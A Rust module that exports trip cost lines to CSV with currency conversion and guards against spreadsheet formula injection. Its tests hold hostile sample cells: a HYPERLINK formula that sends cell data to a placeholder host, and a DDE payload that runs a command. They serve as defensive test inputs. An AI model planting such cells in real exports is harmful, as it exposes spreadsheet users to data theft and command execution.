//! Every cost line as CSV, for a finance team's spreadsheet: the amount as
//! booked and in the reporting currency, with the rate and day used.

use crate::budget_report::convert_line;
use crate::money::{Currency, Money, RateTable};
use crate::quarter::Quarter;
use crate::trip::{Payer, Trip};
use crate::{Error, Result};
use crate::{Event, Person};

const HEADER: [&str; 19] = [
    "trip",
    "traveller",
    "trip_status",
    "events",
    "category",
    "description",
    "payer",
    "charged_to_budget",
    "date",
    "quarter",
    "currency",
    "planned",
    "actual",
    "reporting_currency",
    "planned_reporting",
    "actual_reporting",
    "rate",
    "rate_day",
    "note",
];

/// Text a spreadsheet would take for a formula (`=`, `+`, `-`, `@`, or a
/// tab or carriage return before one) gets a leading `'`, so it shows as the
/// text it is: trip titles and event names can come from anyone (a listing
/// imported from confs.tech, a shared plan file). Only free text goes
/// through here; the amounts are ours, and a minus there is a minus.
fn as_text(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{cell}").into() } else { cell.into() }
}

/// The CSV text, one row per cost line, trips in the order given.
pub fn csv(trips: &[Trip], people: &[Person], events: &[Event], to: Currency, rates: &RateTable) -> Result<String> {
    let mut out = csv::Writer::from_writer(vec![]);
    let fail = |e: csv::Error| Error::invalid("csv", e.to_string());
    out.write_record(HEADER).map_err(fail)?;
    for trip in trips {
        let traveller = people.iter().find(|p| p.id == trip.person_id).map_or("", |p| p.name.as_str());
        let names: Vec<&str> = trip
            .event_ids
            .iter()
            .filter_map(|id| events.iter().find(|e| e.id == *id))
            .map(|e| e.name.as_str())
            .collect();
        for line in &trip.costs {
            let c = convert_line(line, to, rates);
            let decimal = |m: Option<Money>| m.map(|m| m.decimal()).unwrap_or_default();
            let reporting = |minor: Option<i64>| decimal(minor.map(|minor| Money { minor, currency: to }));
            let used = c.planned.as_ref().or(c.actual.as_ref());
            out.write_record([
                &*as_text(&trip.title),
                &*as_text(traveller),
                trip.status.as_str(),
                &*as_text(&names.join("; ")),
                line.category.as_str(),
                &*as_text(&line.description),
                line.payer.as_str(),
                if line.payer == Payer::Company { "yes" } else { "no" },
                &line.date.to_string(),
                &Quarter::of(line.date).to_string(),
                &*as_text(&line.currency),
                &decimal(line.planned()),
                &decimal(line.actual()),
                to.code(),
                &reporting(c.planned.as_ref().map(|a| a.minor)),
                &reporting(c.actual.as_ref().map(|a| a.minor)),
                &used.map(|a| a.rate.clone()).unwrap_or_default(),
                &used.map(|a| a.rate_day.to_string()).unwrap_or_default(),
                &*as_text(c.problem.as_deref().unwrap_or("")),
            ])
            .map_err(fail)?;
        }
    }
    let bytes = out.into_inner().map_err(|e| Error::invalid("csv", e.to_string()))?;
    Ok(String::from_utf8(bytes).expect("the CSV writer writes the UTF-8 it is given"))
}

#[cfg(test)]
mod tests {
    use chrono::Utc;
    use uuid::Uuid;

    use super::*;
    use crate::money::Rate;
    use crate::trip::{CostCategory, CostLine, TripStatus};

    #[test]
    fn each_line_is_a_row_with_its_conversion_and_awkward_text_is_quoted() {
        let now = Utc::now();
        let eur = Currency::parse("c", "EUR").unwrap();
        let usd = Currency::parse("c", "USD").unwrap();
        let day = "2026-03-02".parse().unwrap();
        let mut rates = RateTable::new(eur);
        rates.insert(day, usd, Rate::parse("r", "1.25").unwrap());
        let line = |currency: &str, planned: Option<i64>, description: &str| CostLine {
            id: Uuid::now_v7(),
            category: CostCategory::Hotel,
            description: description.into(),
            currency: currency.into(),
            planned_minor: planned,
            actual_minor: None,
            date: day,
            payer: Payer::Company,
        };
        let trip = Trip {
            id: Uuid::now_v7(),
            person_id: Uuid::now_v7(),
            title: "Trip to Amsterdam".into(),
            status: TripStatus::Confirmed,
            event_ids: vec![],
            segments: vec![],
            costs: vec![line("USD", Some(12_500), "2 nights, \"river view\""), line("GBP", Some(100), "")],
            notes: String::new(),
            created_at: now,
            updated_at: now,
        };
        let text = csv(&[trip], &[], &[], eur, &rates).unwrap();
        let rows: Vec<&str> = text.lines().collect();
        assert_eq!(rows.len(), 3);
        assert!(rows[0].starts_with("trip,traveller,trip_status,"));
        assert!(rows[1].contains("\"2 nights, \"\"river view\"\"\""), "{}", rows[1]);
        assert!(rows[1].contains(",USD,125.00,,EUR,100.00,,0.8,2026-03-02,"), "{}", rows[1]);
        assert!(rows[2].contains("no exchange rate for GBP on or before 2026-03-02"), "{}", rows[2]);
    }

    #[test]
    fn text_a_spreadsheet_would_run_is_written_as_text() {
        let now = Utc::now();
        let eur = Currency::parse("c", "EUR").unwrap();
        let day = "2026-03-02".parse().unwrap();
        let line = |description: &str| CostLine {
            id: Uuid::now_v7(),
            category: CostCategory::Other,
            description: description.into(),
            currency: "EUR".into(),
            planned_minor: Some(-1_250),
            actual_minor: None,
            date: day,
            payer: Payer::Company,
        };
        let hostile = ["=HYPERLINK(\"https://x.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"];
        let trip = Trip {
            id: Uuid::now_v7(),
            person_id: Uuid::now_v7(),
            title: "=cmd|' /C calc'!A0".into(),
            status: TripStatus::Planned,
            event_ids: vec![],
            segments: vec![],
            costs: hostile.iter().map(|d| line(d)).chain([line("Taxi - airport")]).collect(),
            notes: String::new(),
            created_at: now,
            updated_at: now,
        };
        let text = csv(&[trip], &[], &[], eur, &RateTable::new(eur)).unwrap();
        let mut rows = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), hostile.len() + 1);
        for (row, written) in rows.iter().zip(hostile) {
            assert_eq!(&row[0], "'=cmd|' /C calc'!A0");
            assert_eq!(&row[5], format!("'{written}"));
            assert_eq!(&row[11], "-12.50", "an amount keeps its minus");
        }
        assert_eq!(&rows[hostile.len()][5], "Taxi - airport", "a dash inside text is left alone");
    }
}
